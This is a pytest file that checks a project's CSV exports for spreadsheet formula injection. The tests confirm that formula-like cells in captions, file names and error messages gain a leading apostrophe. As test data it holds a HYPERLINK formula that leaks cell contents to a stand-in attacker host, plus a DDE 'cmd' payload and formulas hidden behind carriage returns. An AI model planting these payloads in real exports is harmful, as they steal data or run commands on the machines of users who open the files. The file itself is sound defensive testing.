"""Every CSV the project writes opens in a spreadsheet as text: a cell that would run as a formula
(`=HYPERLINK(...)` in a caption, a photo's file name, a document's error) starts with an apostrophe;
numbers stay numbers."""

import csv
import io
import re
import zipfile

import numpy as np
import pytest
from click.testing import CliRunner
from PIL import Image

import inference
from guards.csv_cells import safe_cell, safe_row
from curation import Manifest, ingest
from curation.cli import cli
from curation.export import ExportSettings, export

from conftest import small_pdf
from test_export_cli import record_scores, repeated_scan_pdf

LINK = '=HYPERLINK("http://attacker.example/?"&A1,"Click for details")'
CAPTION = '=HYPERLINK("http://attacker.example/")'  # no comma: the caption template splits on commas


@pytest.mark.parametrize("text", [LINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t1+1",
                                  "-", "=", "-inf"])
def test_a_formula_like_cell_gets_a_leading_apostrophe(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text, safe", [("\r=1+1", "'\r'=1+1"), ("a\r=2+5*7\r", "a\r'=2+5*7\r"),
                                        ("a\n@SUM(A1)\r\n-x", "a\n'@SUM(A1)\r\n'-x"), ("a\r-3.5", "a\r-3.5"),
                                        ("a\x0b=1\x1cb\u2028c\x85", "a\ufffd=1\ufffdb\ufffdc\ufffd")])
def test_every_line_of_a_cell_is_guarded_and_other_control_characters_replaced(text, safe):
    assert safe_cell(text) == safe


@pytest.mark.parametrize("text, safe", [("a\t=1+1", "a\t'=1+1"), ("\t=1+1", "'\t'=1+1"), ("x\t@SUM(A1)\t-2", "x\t'@SUM(A1)\t-2"),
                                        ("a\tb", "a\tb")])
def test_what_follows_a_tab_in_a_cell_is_guarded(text, safe):
    assert safe_cell(text) == safe


def test_a_row_holding_a_tab_is_written_fully_quoted():
    """Read back as tab-separated (or pasted into a spreadsheet), the quoted cell stays one cell, and what
    follows its tab starts with the apostrophe."""
    from guards.csv_cells import SafeDictWriter, SafeWriter

    out = io.StringIO()
    SafeWriter(out).writerow(["page\t=HYPERLINK(\"http://attacker.example/\")", 3])
    assert out.getvalue() == '"page\t\'=HYPERLINK(""http://attacker.example/"")","3"\r\n'
    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["page\t'=HYPERLINK(\"http://attacker.example/\")", "3"]
    out = io.StringIO()
    SafeDictWriter(out, ["a", "b"]).writerow({"a": "x\t+1+cmd", "b": "plain"})
    assert out.getvalue() == '"x\t\'+1+cmd","plain"\r\n'


@pytest.mark.parametrize("value", ["-3.5", "+2", "1e-3", "-1E+6", "-.5", "42", -3.5, 7, None, "",
                                   "plain caption", "a = b", "ohwx, engraving, =x"])
def test_numbers_and_plain_text_stay_as_they_are(value):
    assert safe_cell(value) == value


def test_a_row_keeps_its_shape():
    assert safe_row(["=1", -2.0, "x"]) == ["'=1", -2.0, "x"]
    assert safe_row({"file": "@a.jpg", "score": 0.5}) == {"file": "'@a.jpg", "score": 0.5}


def read_csv(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def test_export_manifest_csv_neutralises_a_formula_caption(tmp_path):
    small_pdf(tmp_path / "archive" / "issue.pdf", pages=4)
    with Manifest(tmp_path / "manifest.sqlite") as manifest:
        ingest(manifest, [tmp_path / "archive"], workers=1)
        for page in range(4):
            manifest.set_override(1, page, True)
            manifest.set_caption(1, page, CAPTION)
        export(manifest, tmp_path / "lora.zip", ExportSettings(size=256, template="{caption}, {trigger}"))
    with zipfile.ZipFile(tmp_path / "lora.zip") as z:
        rows = read_csv(z.read("manifest.csv").decode())
        captions = [z.read(name).decode() for name in z.namelist() if name.endswith(".txt")]
    assert len(rows) == 4
    assert sorted(row["caption"] for row in rows) == [f"'{CAPTION}, ohwx"] * 4
    assert all(float(row["sigma"]) > 0 and int(row["width"]) > 0 for row in rows)  # numbers stay numbers
    assert f"{CAPTION}, ohwx" in captions  # the trainer's own caption files are not touched


CR_NAME = "issue\r=2+5*7\r"  # LibreOffice ran the formula when \r went out unquoted
STARTS_A_FORMULA = re.compile(r'"?[=+\-@\t]')


def physical_lines(text: str) -> list[str]:
    """The file's lines as any reader may split them: at CR, LF or both."""
    return re.split(r"\r\n|\r|\n", text)


def assert_no_line_starts_a_formula(text: str) -> None:
    assert not [line for line in physical_lines(text) if STARTS_A_FORMULA.match(line)], physical_lines(text)


def test_a_carriage_return_in_a_file_name_round_trips_through_manifest_csv(tmp_path):
    pdf = repeated_scan_pdf(tmp_path / f"{CR_NAME}.pdf", 2)
    with Manifest(tmp_path / "manifest.sqlite") as manifest:
        record_scores(manifest, pdf, [60, 70])
        manifest.set_caption(1, 0, "line one\r-line two")
        export(manifest, tmp_path / "lora.zip", ExportSettings(size=256, template="{trigger}, {caption}"))
    with zipfile.ZipFile(tmp_path / "lora.zip") as z:
        text = z.read("manifest.csv").decode()
    rows = read_csv(text)
    assert len(rows) == 2 and [row["page"] for row in rows] == ["1", "2"]  # no row split at the \r
    assert {row["document"] for row in rows} == {str(pdf.resolve()).replace("\r=", "\r'=")}
    assert rows[0]["curator_caption"] == "line one\r'-line two" and rows[0]["caption"] == "ohwx, line one -line two"
    assert float(rows[0]["sigma"]) == 60
    assert_no_line_starts_a_formula(text)


def test_a_carriage_return_in_a_photo_name_round_trips_through_the_vet_csv(tmp_path):
    model = inference.write_demo_model(tmp_path / "demo-vit")
    photos = tmp_path / "photos"
    photos.mkdir()
    pixels = np.random.default_rng(0).integers(0, 256, (64, 64, 3), dtype=np.uint8)
    Image.fromarray(pixels).save(photos / "cow.png")
    Image.fromarray(pixels).save(photos / f"{CR_NAME}.png", format="PNG")
    text = inference.rows_to_csv(inference.classify_folder(photos, model, top_k=1))
    rows = read_csv(text)
    assert sorted(row["file"] for row in rows) == ["cow.png", "issue\r'=2+5*7\r.png"]
    assert all(0 <= float(row["score_1"]) <= 1 for row in rows)
    assert_no_line_starts_a_formula(text)


def test_a_carriage_return_round_trips_through_the_cli_csv(tmp_path, archive):
    db = tmp_path / "m.sqlite"
    with Manifest(db) as manifest:
        ingest(manifest, [archive], workers=1)
        manifest.set_document(1, status="failed", error="cannot read\r=2+5*7\r")
    result = CliRunner().invoke(cli, ["docs", "--db", str(db), "--format", "csv"], catch_exceptions=False)
    assert result.exit_code == 0, result.output
    rows = read_csv(result.output)
    assert [row["error"] for row in rows] == ["cannot read\r'=2+5*7\r", "", ""]
    assert [int(row["pages"]) for row in rows] == [4, 5, 6]
    assert_no_line_starts_a_formula(result.output)


def test_vet_batch_csv_neutralises_formula_file_names(tmp_path):
    model = inference.write_demo_model(tmp_path / "demo-vit")
    photos = tmp_path / "photos"
    photos.mkdir()
    pixels = np.random.default_rng(0).integers(0, 256, (64, 64, 3), dtype=np.uint8)
    for name in ("=HYPERLINK(1).png", "-cmd.png", "cow.png"):
        Image.fromarray(pixels).save(photos / name)
    (photos / "@broken.jpg").write_bytes(b"not a photo")
    rows = read_csv(inference.rows_to_csv(inference.classify_folder(photos, model, top_k=2)))
    assert sorted(row["file"] for row in rows) == ["'-cmd.png", "'=HYPERLINK(1).png", "'@broken.jpg", "cow.png"]
    scores = [float(row["score_1"]) for row in rows if row["score_1"]]
    assert len(scores) == 3 and all(0 <= score <= 1 for score in scores)


def test_cli_csv_neutralises_formula_cells(tmp_path, archive):
    db = tmp_path / "m.sqlite"
    with Manifest(db) as manifest:
        ingest(manifest, [archive], workers=1)
        manifest.set_document(1, status="failed", error=LINK)

    def run(*args):
        result = CliRunner().invoke(cli, [str(a) for a in args], catch_exceptions=False)
        assert result.exit_code == 0, result.output
        return read_csv(result.output)

    docs = run("docs", "--db", db, "--format", "csv")
    assert [doc["error"] for doc in docs] == [f"'{LINK}", "", ""]
    assert [int(doc["pages"]) for doc in docs] == [4, 5, 6]
    pages = run("pages", "--db", db, "--format", "csv")
    assert len(pages) == 15 and all(float(page["sigma"]) > 0 for page in pages)
